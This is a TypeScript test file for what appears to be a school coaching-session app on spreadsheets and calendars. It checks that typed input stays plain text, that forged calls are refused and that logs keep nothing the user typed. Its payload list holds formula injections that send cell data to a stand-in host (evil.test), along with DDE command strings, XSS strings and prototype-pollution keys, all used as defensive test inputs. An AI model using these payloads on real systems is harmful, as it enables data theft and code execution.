import { staff } from '../src/domain/staff.ts';
import { givenSchool, idOf, people, type School, session } from './given.ts';

const { coach, coachee } = people;

// What people have put into spreadsheets, pages and calendars to make them do something.
const payloads = [
  '=HYPERLINK("http://evil.test?"&A1,"Click")',
  '=IMPORTXML(CONCAT("http://evil.test/",A2),"//a")',
  "+cmd|' /C calc'!A0",
  '-2+3+cmd|x',
  '@SUM(1+1)*cmd|x',
  '\t=1+1',
  '"><img src=x onerror=alert(1)>',
  "</script><script>alert('x')</script>",
  '<!--<script>',
  '<?= Session.getActiveUser() ?>',
  '\u0024{alert(1)}',
  'BEGIN:VEVENT\nATTENDEE:mailto:evil@evil.test',
  '\u202Egnp.exe',
  '__proto__',
];

/** Whether any cell of the data tabs holds a formula, or has become an error. */
function formulas(school: School): string[] {
  const { getters } = school.world.model;
  return ['Sessions', 'Staff', 'Teams', 'Term dates', 'Settings', 'Log'].flatMap((tab) =>
    Object.values(getters.getCells(String(getters.getSheetIdByName(tab))))
      .filter((cell) => cell.isFormula)
      .map((cell) => `${tab}: ${cell.id}`),
  );
}

describe('what somebody types', () => {
  it.each(payloads)('stays words everywhere: %j', (payload) => {
    const school = givenSchool();
    const words = {
      strength: payload,
      target: payload,
      ideas: payload,
      outcome: payload,
      theme: payload.replace(/\n/g, ' '),
      startingPoint: payload,
    };
    expect(school.save(words).ok).toBe(true);
    expect(school.deliver()).toMatchObject({ ok: true, value: { outcome: 'Invited' } });
    expect(formulas(school)).toEqual([]);
    expect(school.rows('Sessions')).toMatchObject([{ Strength: payload, Ideas: payload, 'Pupil outcome': payload }]);
    const outside = JSON.stringify([
      school.world.calendars.list(coachee.email),
      school.rows('Log'),
      school.world.calendars.mails,
    ]);
    expect(outside).not.toContain(JSON.stringify(payload).slice(1, -1));
  });

  it('as a name on the Staff tab reaches the sidebar as a name', () => {
    const school = givenSchool();
    for (const payload of payloads.filter((each) => !each.includes('\n') && !each.startsWith('='))) {
      school.put(staff, Object.values({ ...people, coachee: { ...coachee, name: payload } }));
      const [sidebar] = school.choose('openSidebar', coach.email);
      const html = sidebar?.kind === 'sidebar' ? sidebar.html : '';
      const data = html.slice(html.indexOf('<div id="home"'));
      expect(data.match(/[<>]/g)).toHaveLength(4);
      expect(school.home().reference.staff.some(({ name }) => name === payload.trim() || name === payload)).toBe(true);
    }
  });
});

describe('a forged call', () => {
  const nonsense = [
    null,
    0,
    '',
    'x',
    true,
    [],
    [[]],
    {},
    { draft: null },
    { __proto__: { id: 'x' } },
    'x'.repeat(1_000_000),
    { id: idOf(1) },
    { ...session(), coachee: { toString: 'x' } },
  ];

  it.each(['sessions.save', 'followUps.deliver', 'drafts.keep'])(
    'of %s with anything but what it takes is refused in words and writes nothing',
    (path) => {
      const school = givenSchool();
      const before = JSON.stringify(school.rows('Sessions'));
      for (const input of nonsense) {
        const { reply } = school.ask(coach.email, path, input);
        expect([JSON.stringify(input).slice(0, 60), reply]).toEqual([
          expect.anything(),
          {
            ok: false,
            error: expect.objectContaining({
              code: expect.stringMatching(/^(invalid|missing)$/),
              message: expect.stringMatching(/^.{15,}[.]$/),
            }),
          },
        ]);
      }
      expect(JSON.stringify(school.rows('Sessions'))).toBe(before);
      expect(school.home().drafts).toEqual([]);
    },
  );

  it('cannot say who is calling, whose calendar it is, or who is invited', () => {
    const school = givenSchool();
    const forged = {
      ...session(),
      coach: people.director.email,
      savedBy: people.director.email,
      assistantHead: 'evil@evil.test',
      status: 'Invited',
      eventId: 'mine',
      halfTerm: 'x',
    };
    expect(school.ask(coach.email, 'sessions.save', forged).reply.ok).toBe(true);
    expect(school.rows('Sessions')).toMatchObject([
      {
        Coach: coach.name,
        'Saved by': coach.email,
        'Assistant head': people.head.name,
        'Follow-up status': 'Waiting',
        'Half-term': '2026/27 Autumn 2',
      },
    ]);
    school.deliver();
    expect(school.world.calendars.list(people.director.email)).toEqual([]);
  });

  it("cannot reach somebody else's unfinished sessions", () => {
    const school = givenSchool();
    school.ask(coach.email, 'drafts.keep', { draft: session(), part: 'ideas' });
    expect(school.ask(people.other.email, 'drafts.drop', session().id).reply.ok).toBe(true);
    expect(school.home(people.other.email).drafts).toEqual([]);
    expect(school.home().drafts).toMatchObject([{ draft: { strength: session().strength }, part: 'ideas' }]);
  });

  it('of a function that is not for the sidebar has the rights of whoever calls, and no more', () => {
    const school = givenSchool();
    school.save();
    for (const fn of ['sendWaitingHourly', 'sendWaitingInvitations'])
      school.world.run(fn, ['x', {}], { user: 'stranger@evil.test', kind: 'client' });
    expect(school.world.calendars.list(coachee.email)).toEqual([]);
    expect(school.world.run('setUp', [], { user: coach.email, kind: 'client' }).error?.message).toContain(
      'Script function not found',
    );
  });
});

it('a fault of ours is told by a reference, and no log has a word of what was typed', () => {
  const school = givenSchool();
  const secret = 'frank words about work';
  school.world.onCall((call, act) => {
    if (call.method === 'flush') throw new TypeError(`cannot write "${secret}\n    at ${secret}"`);
    return act();
  });
  const { reply, run } = school.ask(coach.email, 'sessions.save', session({ ideas: secret }));
  expect(reply).toMatchObject({
    ok: false,
    error: { code: 'bug', message: expect.stringMatching(/Reference [0-9A-F]{4}$/) },
  });
  expect(run.log).toHaveLength(1);
  expect(run.log.join()).toMatch(/Reference [0-9A-F]{4}: TypeError in sessions.save/);
  expect(run.log.join()).not.toContain(secret);
});
